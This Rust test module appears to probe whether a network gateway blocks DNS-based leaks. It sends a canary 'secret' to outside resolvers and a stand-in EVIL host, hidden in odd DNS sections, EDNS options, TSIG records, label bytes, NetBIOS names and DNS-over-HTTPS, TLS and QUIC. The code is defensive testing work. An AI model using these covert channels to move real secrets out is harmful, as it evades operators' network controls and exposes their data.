//! Messages that no resolver library makes (RFC 1035, section 4): each to a resolver outside, so that with the firewall
//! off all of it arrives, and what the gateway makes of it with the firewall on is its own.

use std::net::{Ipv4Addr, UdpSocket};
use std::os::fd::AsRawFd;

use nix::sys::socket::{self as sock, SockaddrIn, sockopt};
use rustix::net::{AddressFamily, SocketType};

use super::dns::{PORT, framed, query};
use super::effects::socket;
use super::{Ctx, Failed, Run, send, target, tls};
use crate::catalogue::names::{EVIL, GOOD};

// Where a header counts its sections, the lower byte of each.
const QUESTIONS: usize = 5;
const ANSWERS: usize = 7;
const AUTHORITIES: usize = 9;
const ADDITIONS: usize = 11;
// Types and options.
const TXT: u16 = 16;
const OPT: u16 = 41;
const TSIG: u16 = 250;
const CLIENT_SUBNET: u16 = 8;
const COOKIE: u16 = 10;
const PADDING: u16 = 12;
const PRIVATE_OPTION: u16 = 65_001;

pub(super) const CODE: &[(&str, Run)] = &[
    ("dns-aaaa", |c| outside(&query(&c.name(), 28))),
    ("dns-cname", |c| outside(&query(&c.name(), 5))),
    ("dns-ns", |c| outside(&query(&c.name(), 2))),
    ("dns-dnskey", |c| outside(&query(&c.name(), 48))),
    ("dns-naptr", |c| outside(&query(&c.name(), 35))),
    ("dns-ixfr", |c| outside(&query(&c.name(), 251))),
    ("dns-private-type", |c| outside(&query(&c.name(), 65_399))),
    ("dns-txt-below-listed", |c| outside(&query(&format!("{}.{GOOD}", c.canary), TXT))),
    ("dns-chaos", |c| outside(&of_class(&c.name(), 3))),
    ("dns-any-class", |c| outside(&of_class(&c.name(), 255))),
    ("dns-case", |c| {
        let name = c.name();
        let mixed = name.chars().enumerate();
        let mixed = mixed.map(|(place, one)| if place % 2 == 0 { one.to_ascii_uppercase() } else { one });
        outside(&query(&mixed.collect::<String>(), 1))
    }),
    ("dns-two-questions", |c| {
        let mut message = query(GOOD, 1);
        message[QUESTIONS] = 2;
        message.extend(query(&c.name(), 1).get(12..).unwrap_or_default());
        outside(&message)
    }),
    ("dns-answer-section", |c| outside(&beside(ANSWERS, &text(c)))),
    ("dns-authority-section", |c| outside(&beside(AUTHORITIES, &text(c)))),
    ("dns-additional-section", |c| outside(&beside(ADDITIONS, &text(c)))),
    ("dns-behind-message", |c| outside(&[&query(GOOD, 1)[..], c.canary.as_bytes()].concat())),
    ("dns-edns-listed", |c| outside(&beside(ADDITIONS, &option(PRIVATE_OPTION, c.canary.as_bytes())))),
    ("dns-client-subnet", |c| {
        // A family of nobody's, as long as it likes.
        let data = [&[0, 99, u8::MAX, 0][..], c.canary.as_bytes()].concat();
        outside(&beside(ADDITIONS, &option(CLIENT_SUBNET, &data)))
    }),
    ("dns-cookie", |c| outside(&beside(ADDITIONS, &option(COOKIE, c.canary.as_bytes())))),
    ("dns-padding", |c| outside(&beside(ADDITIONS, &option(PADDING, c.canary.as_bytes())))),
    ("dns-signature", |c| {
        let algorithm = name("hmac-sha256");
        // Time, fudge, no signature, an id, no error, nothing else.
        let data = [&algorithm[..], &[0, 0, 0x65, 0, 0, 0, 1, 44, 0, 0, 0x43, 0x4c, 0, 0, 0, 0]].concat();
        outside(&beside(ADDITIONS, &record(&name(&c.name()), TSIG, 255, &data)))
    }),
    ("dns-compressed", |c| {
        // The question's name is a pointer over its type and class, to what stands behind them.
        let mut message = query(".", 1).get(..12).unwrap_or_default().to_vec();
        message.extend([0xc0, 18, 0, 1, 0, 1]);
        message.extend(name(&c.name()));
        outside(&message)
    }),
    ("dns-bytes", |c| outside(&labels(&[&[0xff, 0xfe, 0x80], c.canary.as_bytes(), b"evil", b"example"]))),
    ("dns-dot-in-label", |c| {
        let label = format!("{}.good", c.canary);
        outside(&labels(&[label.as_bytes(), b"example"]))
    }),
    ("dns-nul-in-label", |c| {
        let label = [c.canary.as_bytes(), b"\0good"].concat();
        outside(&labels(&[&label, b"example"]))
    }),
    ("dns-255", |c| {
        let (long, rest) = ("x".repeat(63), c.name());
        // What is left of 255 bytes, each label's length and the last one's among them.
        let left = 255 - 3 * 64 - (rest.len() + 2) - 1;
        outside(&query(&format!("{long}.{long}.{long}.{}.{rest}", "y".repeat(left)), 1))
    }),
    ("dns-many-labels", |c| outside(&query(&format!("{}{}", "a.".repeat(100), c.name()), 1))),
    ("dns-as-answer", |c| outside(&flagged(&c.name(), 0x81))),
    ("dns-status", |c| outside(&flagged(&c.name(), 2 << 3 | 1))),
    ("dns-stateful", |c| outside(&flagged(&c.name(), 6 << 3))),
    ("dns-source-53", |c| {
        let fd = socket(AddressFamily::INET, SocketType::DGRAM, None)?;
        sock::setsockopt(&fd, sockopt::ReuseAddr, &true)?;
        let own = SockaddrIn::new(0, 0, 0, 0, PORT);
        match sock::bind(fd.as_raw_fd(), &own) {
            Ok(()) => {}
            Err(nix::Error::EACCES) => {
                return Err(Failed::Impossible("port 53 is root's in this container".to_owned()));
            }
            Err(error) => return Err(error.into()),
        }
        UdpSocket::from(fd).send_to(&query(&c.name(), 1), (target::DNS, PORT))?;
        Ok("sent".to_owned())
    }),
    ("dns-no-question", |c| outside(c.canary.as_bytes())),
    ("dns-over-tls-443", |c| tls::talk((target::DNS, 443), None, &framed(&query(&c.name(), 1)))),
    ("dns-over-quic-853", |c| send::udp((target::EVIL, 853), &super::quic::initial(c, EVIL, b"doq")?)),
    ("dns-over-https-resolver", |c| {
        let request = format!("GET /dns-query?dns={} HTTP/1.1\r\nHost: {}\r\n\r\n", c.canary, target::DNS);
        tls::talk((target::DNS, 443), None, request.as_bytes())
    }),
    ("dns-over-https-json", |c| {
        let host = format!("dns.{EVIL}");
        let request = format!(
            "GET /resolve?name={}&type=TXT HTTP/1.1\r\nHost: {host}\r\nAccept: application/dns-json\r\n\r\n",
            c.name()
        );
        tls::talk((target::EVIL, 443), Some(&host), request.as_bytes())
    }),
    ("dns-crypt", |c| send::udp((target::DNS, 5443), &[&[0x71; 8][..], c.canary.as_bytes()].concat())),
    ("dns-tcp-5353", |c| send::tcp((target::DNS, 5353), &framed(&query(&c.name(), 1)))),
    ("dns-mdns-unicast", |c| send::udp((target::DNS, 5353), &query(&c.name(), 1))),
    ("dns-llmnr-tcp", |c| send::tcp((target::DNS, 5355), &framed(&query(&c.name(), 1)))),
    ("dns-netbios", |c| {
        let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
        socket.set_broadcast(true)?;
        socket.send_to(&netbios(c), (Ipv4Addr::BROADCAST, 137))?;
        Ok("sent".to_owned())
    }),
    ("dns-netbios-outside", |c| send::udp((target::EVIL, 137), &netbios(c))),
    ("dns-other-tcp", |c| send::tcp((target::DNS, PORT), &framed(&query(&c.name(), 1)))),
    ("dns-root-udp", |c| outside(&query(&c.name(), 1))),
];

fn outside(message: &[u8]) -> Result<String, Failed> {
    send::udp((target::DNS, PORT), message)
}

/// A listed name's question and one record in another section.
fn beside(section: usize, record: &[u8]) -> Vec<u8> {
    let mut message = query(GOOD, 1);
    message[section] = 1;
    message.extend(record);
    message
}

fn text(c: &Ctx) -> Vec<u8> {
    let data = [&[u8::try_from(c.canary.len()).unwrap_or(63)][..], c.canary.as_bytes()].concat();
    record(&name(&c.name()), TXT, 1, &data)
}

fn record(owner: &[u8], kind: u16, class: u16, data: &[u8]) -> Vec<u8> {
    let length = u16::try_from(data.len()).unwrap_or_default();
    let mut bytes = owner.to_vec();
    bytes.extend(kind.to_be_bytes());
    bytes.extend(class.to_be_bytes());
    bytes.extend([0; 4]);
    bytes.extend(length.to_be_bytes());
    bytes.extend(data);
    bytes
}

/// OPT with one option.
fn option(code: u16, data: &[u8]) -> Vec<u8> {
    let length = u16::try_from(data.len()).unwrap_or_default();
    let data = [&code.to_be_bytes()[..], &length.to_be_bytes(), data].concat();
    record(&[0], OPT, 1232, &data)
}

fn name(name: &str) -> Vec<u8> {
    labels_of(&name.split('.').map(str::as_bytes).collect::<Vec<_>>())
}

fn labels_of(labels: &[&[u8]]) -> Vec<u8> {
    let mut bytes = Vec::new();
    for label in labels {
        bytes.push(u8::try_from(label.len().min(63)).unwrap_or(63));
        bytes.extend(label.iter().take(63));
    }
    bytes.push(0);
    bytes
}

/// A question whose labels are any bytes.
fn labels(labels: &[&[u8]]) -> Vec<u8> {
    let mut message = query("x", 1).get(..12).unwrap_or_default().to_vec();
    message.extend(labels_of(labels));
    message.extend([0, 1, 0, 1]);
    message
}

fn of_class(name: &str, class: u16) -> Vec<u8> {
    let mut message = query(name, TXT);
    let at = message.len() - 2;
    message[at..].copy_from_slice(&class.to_be_bytes());
    message
}

fn flagged(name: &str, flags: u8) -> Vec<u8> {
    let mut message = query(name, 1);
    message[2] = flags;
    message
}

/// A query for a name that is the secret, each half byte a letter (RFC 1001, section 14.1), and the secret again as the
/// scope, which is in the clear.
fn netbios(c: &Ctx) -> Vec<u8> {
    let padded = format!("{:<16}", c.canary.get(..15).unwrap_or(&c.canary));
    let half = |byte: u8| [b'A' + (byte >> 4), b'A' + (byte & 15)];
    let encoded: Vec<u8> = padded.bytes().take(16).flat_map(half).collect();
    let mut message = query("x", 1).get(..12).unwrap_or_default().to_vec();
    message.extend(labels_of(&[&encoded, c.canary.as_bytes()]));
    message.extend([0, 0x20, 0, 1]);
    message
}
